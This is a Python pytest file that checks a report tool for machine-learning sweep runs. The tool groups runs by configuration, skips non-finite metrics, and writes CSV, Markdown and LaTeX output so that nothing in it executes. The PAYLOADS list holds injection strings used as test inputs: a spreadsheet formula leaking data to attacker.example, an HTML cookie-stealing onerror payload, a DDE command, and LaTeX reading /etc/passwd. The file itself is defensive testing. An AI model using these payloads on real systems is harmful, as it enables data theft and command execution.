"""``bdl-report`` is right and inert on a handed-over tree: runs are grouped by how they were
configured, never by their warnings' text; a metric no mean can hold (NaN, an infinity, a value
whose mean or spread overflows) leaves its run out with one line naming it; every cell a run
directory supplies is written so that a spreadsheet evaluates nothing, Markdown renders no HTML
and LaTeX runs no command; a malformed ``curve.csv`` costs ``--plot`` one line, not a traceback."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from conftest import write_run

import bdl.analysis.plots
from bdl.analysis.report import main
from bdl.analysis.tables import csv_safe


def jobs(sweep: Path) -> list[Path]:
    return sorted(p.parent for p in sweep.rglob("metrics.json"))


def edit_metrics(run: Path, **changes) -> None:
    metrics = json.loads((run / "metrics.json").read_text())
    (run / "metrics.json").write_text(json.dumps({**metrics, **changes}))


def test_runs_are_grouped_by_configuration_not_by_warning_text(tmp_path, capsys):
    # one configuration, four seeds, each run with its own R-hat in its warning
    for seed in range(4):
        run = tmp_path / "multirun" / str(seed)
        write_run(run, "sghmc", seed % 2)
        config = run / ".hydra" / "config.yaml"
        text = config.read_text().replace(f"seed: {seed % 2}", f"seed: {seed}")
        config.write_text(text.replace(f"tag: ${{dataset.name}}-{seed % 2}", "tag: same"))
        edit_metrics(run, warnings=[f"R-hat {1.1 + seed / 100:.2f} above 1.01"])
    assert main([str(tmp_path / "multirun")]) == 0
    with (tmp_path / "multirun" / "report_summary.csv").open() as file:
        rows = list(csv.DictReader(file))
    assert [(r["n_runs"], r["n_warned"]) for r in rows] == [("4", "4")]
    assert "warnings" not in rows[0]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('{"test_accuracy": 0.9, "test_nll": NaN}', "test_nll=nan, not a finite number"),
        ('{"test_accuracy": 0.9, "test_nll": Infinity}', "test_nll=inf, not a finite number"),
        ('{"test_accuracy": 0.9, "test_nll": -1e999}', "test_nll=-inf, not a finite number"),
        ('{"test_accuracy": 0.9, "test_nll": 1e308}', "test_nll=1e+308, beyond ±1e+150"),
    ],
)
def test_a_metric_no_mean_can_hold_leaves_its_run_out_by_name(sweep, capsys, text, shown):
    runs = jobs(sweep)
    for run in runs[2:]:  # both sgld seeds: 1e308 twice would average to inf
        (run / "metrics.json").write_text(text)
    assert main([str(sweep)]) == 0
    err = capsys.readouterr().err
    for run in runs[2:]:
        assert f"bdl-report: warning: skipped {run}: metrics.json holds {shown}" in err
    summary = (sweep / "report_summary.csv").read_text()
    assert "inf" not in summary and "nan" not in summary.lower()
    with (sweep / "report.csv").open() as file:
        rows = list(csv.DictReader(file))
    assert [(r["run_dir"], float(r["test_accuracy"])) for r in rows] == [
        (str(runs[0]), 0.90),
        (str(runs[1]), 0.92),
    ]


#: One per run of the sweep: a spreadsheet formula, raw HTML, a command, a LaTeX command.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "<img src=x onerror=alert(document.cookie)>",
    "+cmd|' /C calc'!A0",
    r"\input{/etc/passwd}\immediate\write18{touch marker}",
]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(prefix):
    frame = pd.DataFrame({f"{prefix}key": [f"{prefix}1+1", "plain", -1.5]})
    assert csv_safe(frame).to_dict("list") == {f"'{prefix}key": [f"'{prefix}1+1", "plain", -1.5]}


def test_every_cell_is_written_inert(sweep, capsys):
    runs = jobs(sweep)
    for run, payload in zip(runs, PAYLOADS, strict=True):
        config = run / ".hydra" / "config.yaml"
        config.write_text(config.read_text() + f"note: {json.dumps(payload)}\n")
    edit_metrics(runs[0], warnings=["<script>alert(1)</script>"])
    assert main([str(sweep), "--by", "sampler", "note"]) == 0
    for name in ("report.csv", "report_summary.csv"):
        with (sweep / name).open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        for payload in PAYLOADS[0], PAYLOADS[2]:
            assert payload not in cells and f"'{payload}" in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    markdown = (sweep / "report.md").read_text()
    assert "<" not in markdown
    assert "&lt;script>alert(1)&lt;/script>" in markdown
    assert "&lt;img src=x onerror=alert(document.cookie)>" in markdown
    latex = (sweep / "report.tex").read_text()
    assert r"\input" not in latex and r"\write18" not in latex


def test_a_malformed_curve_costs_one_line(sweep, capsys, monkeypatch):
    drawn = []
    monkeypatch.setattr(
        bdl.analysis.plots, "draw", lambda runs, by, out: drawn.extend(runs["run_dir"])
    )
    runs = jobs(sweep)
    for run in runs:
        rows = ["epoch,test_metric,potential"] + [f"{e},{0.5 + e / 100},{10 - e}" for e in range(4)]
        (run / "curve.csv").write_text("\n".join(rows) + "\n")
    (runs[0] / "curve.csv").write_text("epoch,potential\n1,3.0\n")  # no test_metric
    (runs[1] / "curve.csv").write_text("epoch,test_metric,potential\n1,abc,x\n")
    assert main([str(sweep), "--plot"]) == 0
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert (
        f"bdl-report: warning: {runs[0] / 'curve.csv'} has no column test_metric: not plotted"
        in err
    )
    assert f"bdl-report: warning: {runs[1] / 'curve.csv'} has text in test_metric" in err
    assert drawn == [str(run) for run in runs[2:]]  # the others are drawn
